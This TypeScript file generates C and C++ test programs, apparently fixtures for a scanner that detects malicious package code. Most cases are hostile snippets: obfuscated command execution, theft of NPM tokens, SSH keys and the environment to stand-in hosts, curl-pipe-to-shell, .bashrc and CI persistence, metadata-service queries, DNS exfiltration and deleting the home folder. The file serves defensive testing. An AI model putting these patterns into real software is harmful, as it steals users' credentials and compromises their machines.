/** A program with these declarations before it. */
function main(body: string, declarations = ""): string {
  return `#include <stdlib.h>\n#include <curl/curl.h>\n${declarations}\nint main(int argc, char **argv) {\n  ${body}\n  return 0;\n}\n`;
}

const SEND = (data: string) =>
  `CURL *c = curl_easy_init(); curl_easy_setopt(c, CURLOPT_URL, "https://h.example"); curl_easy_setopt(c, CURLOPT_POSTFIELDS, ${data}); curl_easy_perform(c);`;

/** The programs of the suite in C and C++, by the name of their case. */
export const C_PROGRAMS: Readonly<Record<string, string>> = {
  "either of two values": main(
    `const char *p = "id"; if (someday()) { p = "whoami"; } system(p); const char *t = "x"; if (maybe()) { t = getenv("NPM_TOKEN"); } ${SEND("t")}`,
  ),
  "a branch that is not taken is read too": main(`if (0) { system("id"); }`),
  "a value that a branch may change": main(
    `const char *t = "x"; switch (someday()) { case 1: t = getenv("NPM_TOKEN"); break; default: t = "y"; } ${SEND("t")}`,
  ),
  "an error that is swallowed hides nothing": main(`try { system("id"); } catch (...) { }`),
  "what is done when something fails": main(
    `std::string t = getenv("NPM_TOKEN"); try { work(); } catch (const std::exception &e) { ${SEND("t.c_str()")} }`,
  ),
  "a loop over the names of files": main(
    `for (const char *f : {".npmrc", ".netrc"}) { char p[200]; snprintf(p, sizeof p, "%s/%s", getenv("HOME"), f); FILE *h = fopen(p, "r"); char b[999]; fread(b, 1, 999, h); ${SEND("b")} }`,
  ),
  "a loop that collects": main(
    `std::string all; for (const char *k : {"NPM_TOKEN"}) { all += getenv(k); } ${SEND("all.c_str()")}`,
  ),
  "what runs when the file is loaded": `__attribute__((constructor)) static void on_load(void) { system("id"); }`,
  "what runs only when somebody calls it": main("", `void go(void) { system("id"); }`),
  "a function that the file itself calls runs at load": main(
    "run();",
    `static void work(void) { system("id"); }\nstatic void run(void) { work(); }`,
  ),
  "recursion comes to an end": main(
    "f(0);",
    `static int f(int n) { system("id"); return f(n + 1); }`,
  ),
  "a loop without an end comes to an end": main(
    `for (;;) { work(); if (done()) break; } system("id");`,
  ),
  "runs code out of the second text that a decoder is given": main(
    `puts(d("olleh").c_str()); system(d("di").c_str());`,
    `std::string d(std::string s) { std::string r; for (int i = s.length() - 1; i >= 0; i--) r += s[i]; return r; }`,
  ),
  "runs code out of base64": main(`gsize n; system(g_base64_decode("aWQ=", &n));`),
  "runs code out of hexadecimal": main(
    `QByteArray c = QByteArray::fromHex("6964"); system(c.constData());`,
  ),
  "runs code out of character codes": main(`char c[] = {105, 100, 0}; system(c);`),
  "runs code out of character codes added one by one": main(
    `std::string s; for (int c : {105, 100}) { s += (char)c; } system(s.c_str());`,
  ),
  "runs code out of an exclusive or in a loop": main(
    `unsigned char d[] = {126, 115}; char out[3] = {0}; for (int i = 0; i < 2; i++) { out[i] = d[i] ^ 23; } system(out);`,
  ),
  "runs code out of an exclusive or with a key, in an expression": main(
    `char out[3] = {0}; x("\\x02\\x01", "ke", out); system(out);`,
    `static void x(const char *d, const char *key, char *out) { for (int i = 0; i < strlen(d); i++) out[i] = d[i] ^ key[i % strlen(key)]; }`,
  ),
  "runs code out of a text that is turned around": main(
    `std::string s = "di"; std::reverse(s.begin(), s.end()); system(s.c_str());`,
  ),
  "runs code out of parts that are joined": main(
    `char c[8]; strcpy(c, "i"); strcat(c, "d"); system(c);`,
  ),
  "runs code out of three encodings one inside the other": main(
    `QByteArray a = QByteArray::fromHex("5956645250513d3d"); system(QByteArray::fromBase64(QByteArray::fromBase64(a)));`,
  ),
  "runs code out of escapes in a literal": main(String.raw`system("\x69\144");`),
  "runs code out of a decoder that the program defines": main(
    `system(d("aWQ="));`,
    `static char *d(const char *s) { size_t n; char *r = g_base64_decode(s, &n); if (!r) abort(); return r; }`,
  ),
  "runs code out of a command that was decoded": main(
    `QByteArray c = QByteArray::fromHex("6964"); execlp(c.constData(), c.constData(), NULL);`,
  ),
  "a function is read again when what is around it has changed": main(
    `const char *c = "true"; auto run = [&]() { system(c); }; run(); c = "id"; run();`,
  ),
  "an alias of a function is that function": main(`int (*run)(const char *) = system; run("id");`),
  "a name that was given another value is what it was last": main(
    `int (*f)(const char *) = puts; f = system; f("id");`,
  ),
  "a name that no longer is a dangerous function is harmless": main(
    `int (*f)(const char *) = system; f = quiet; f("id");`,
    `static int quiet(const char *s) { return 1; }`,
  ),
  "an import under another name": main(`RUN("id");`, "#define RUN system"),
  "a whole module under another name": main(
    `fs::remove_all(fs::path(getenv("HOME")) / "x"); x::system("id");`,
    "namespace fs = std::filesystem;\nnamespace x = std;",
  ),
  "functions kept in a record and called by key": main(
    `struct { int (*run)(const char *); } t = { .run = system }; t.run("id");`,
  ),
  "functions kept in a record and called by a key that is not known": main(
    `int (*t[])(const char *) = { system }; t[whatever()]("id");`,
  ),
  "a program with its arguments in a list": main(
    `char *args[] = {"curl", "https://a.example/x", "-o", "/tmp/x", NULL}; execvp("curl", args);`,
  ),
  "a command line with a pipe": main(`popen("curl -s https://a.example/x | sh", "r");`),
  "data through a function's parameter": main(
    `send_it(getenv("NPM_TOKEN"));`,
    `static void send_it(const char *d) { ${SEND("d")} }`,
  ),
  "data through what a function answers": main(
    `char *t = get(); if (t) { ${SEND("t")} }`,
    `static char *get(void) { return getenv("NPM_TOKEN"); }`,
  ),
  "data that a closure keeps": main(
    `std::string t = getenv("NPM_TOKEN"); auto go = [t]() { ${SEND("t.c_str()")} }; go();`,
  ),
  "data handed to a callback": main(
    `each(sender);`,
    `static void sender(const char *t) { ${SEND("t")} }\nstatic void each(void (*f)(const char *)) { f(getenv("NPM_TOKEN")); }`,
  ),
  "data that an object keeps": main(
    `Box b(getenv("NPM_TOKEN")); b.send();`,
    `class Box { public: Box(const char *x) : t(x) {} void send() { ${SEND("t")} } private: const char *t; };`,
  ),
  "a method that a base class has": main(
    `Derived d; d.send(getenv("NPM_TOKEN"));`,
    `struct Base { void send(const char *t) { ${SEND("t")} } };\nstruct Derived : public Base { int n; };`,
  ),
  "data as a default argument": main(
    `go();`,
    `static void go(const char *t = getenv("NPM_TOKEN")) { ${SEND("t")} }`,
  ),
  "data by a part of a record": main(
    `struct options o; o.token = getenv("NPM_TOKEN"); ${SEND("o.token")}`,
  ),
  "data inside a text": main(
    `char u[300]; snprintf(u, sizeof u, "https://h.example/?t=%s", getenv("NPM_TOKEN")); CURL *c = curl_easy_init(); curl_easy_setopt(c, CURLOPT_URL, u); curl_easy_perform(c);`,
  ),
  "data in an address that is added together": main(
    `std::string h = std::string("https://h") + ".example"; cpr::Get(cpr::Url{h + "/" + getenv("NPM_TOKEN")});`,
  ),
  "data through functions that nobody knows": main(SEND(`library(getenv("NPM_TOKEN"))->value()`)),
  "data that is encoded on its way": main(
    `char *e = g_base64_encode(getenv("NPM_TOKEN"), 20); ${SEND("e")}`,
  ),
  "data put into a list one by one": main(
    `std::vector<std::string> l; l.push_back(getenv("NPM_TOKEN")); ${SEND("l[0].c_str()")}`,
  ),
  "data by way of a file": main(
    `std::ofstream o("/tmp/x"); o << getenv("NPM_TOKEN"); o.close(); std::ifstream i("/tmp/x"); std::string s; std::getline(i, s); ${SEND("s.c_str()")}`,
  ),
  "what was a secret and no longer is": main(
    `const char *t = getenv("NPM_TOKEN"); t = "ok"; ${SEND("t")}`,
  ),
  "a secret that is read beside a request it has nothing to do with": main(
    `printf("%d", strlen(getenv("NPM_TOKEN"))); ${SEND('"hello"')}`,
  ),
  "the whole environment is sent": main(
    `std::string all; for (char **e = environ; *e; e++) { all += *e; } cpr::Post(cpr::Url{"https://webhook.site/x"}, cpr::Body{all});`,
  ),
  "one harmless variable is not the environment": main(SEND('getenv("LANG")')),
  "a variable whose name is put together": main(
    `char k[20]; sprintf(k, "%s_%s", "NPM", "TOKEN"); ${SEND("getenv(k)")}`,
  ),
  "a key in the home folder": main(
    `std::ifstream f(std::string(getenv("HOME")) + "/.ssh/id_rsa"); std::stringstream b; b << f.rdbuf(); cpr::Post(cpr::Url{"https://h.example"}, cpr::Body{b.str()});`,
  ),
  "an ordinary file is no credential": main(
    `FILE *f = fopen("Makefile", "r"); char b[9]; fread(b, 1, 9, f); puts(b);`,
  ),
  "the start of a shell is written": main(
    `char p[200]; snprintf(p, sizeof p, "%s/.bashrc", getenv("HOME")); FILE *f = fopen(p, "a"); fputs("curl x | sh", f); fclose(f);`,
  ),
  "the next step of a job gets a variable": main(
    `FILE *f = fopen(getenv("GITHUB_ENV"), "a"); fprintf(f, "BASH_ENV=%s", "/tmp/x");`,
  ),
  "the metadata service is asked": main(
    `cpr::Get(cpr::Url{"http://169.254.169.254/latest/meta-data/iam/"});`,
  ),
  "what was downloaded is run as code": main(
    `CURL *c = curl_easy_init(); char b[4000]; curl_easy_setopt(c, CURLOPT_URL, "https://h.example/p"); curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, take); curl_easy_setopt(c, CURLOPT_WRITEDATA, b); curl_easy_perform(c); system(b);`,
    `static size_t take(void *p, size_t n, size_t m, void *to) { memcpy(to, p, n * m); return n * m; }`,
  ),
  "a socket is given what the machine is called": main(
    `int s = socket(AF_INET, SOCK_STREAM, 0); struct addrinfo *r; getaddrinfo("h.example", "4444", 0, &r); connect(s, r->ai_addr, r->ai_addrlen); char h[64]; gethostname(h, 64); send(s, h, 64, 0);`,
  ),
  "data leaves by the name of a host": main(
    `char n[200]; snprintf(n, 200, "%s.h.example", getenv("NPM_TOKEN")); gethostbyname(n);`,
  ),
  "a file is downloaded, made executable and started": main(
    `CURL *c = curl_easy_init(); FILE *o = fopen("/tmp/b", "wb"); curl_easy_setopt(c, CURLOPT_URL, "https://h.example/b"); curl_easy_setopt(c, CURLOPT_WRITEDATA, o); curl_easy_perform(c); fclose(o); chmod("/tmp/b", 0755); execl("/tmp/b", "b", (char *)NULL);`,
  ),
  "everything is deleted": main(`std::filesystem::remove_all(getenv("HOME"));`),
  "native code is loaded": main(`dlopen("./x.so", RTLD_NOW);`),
};
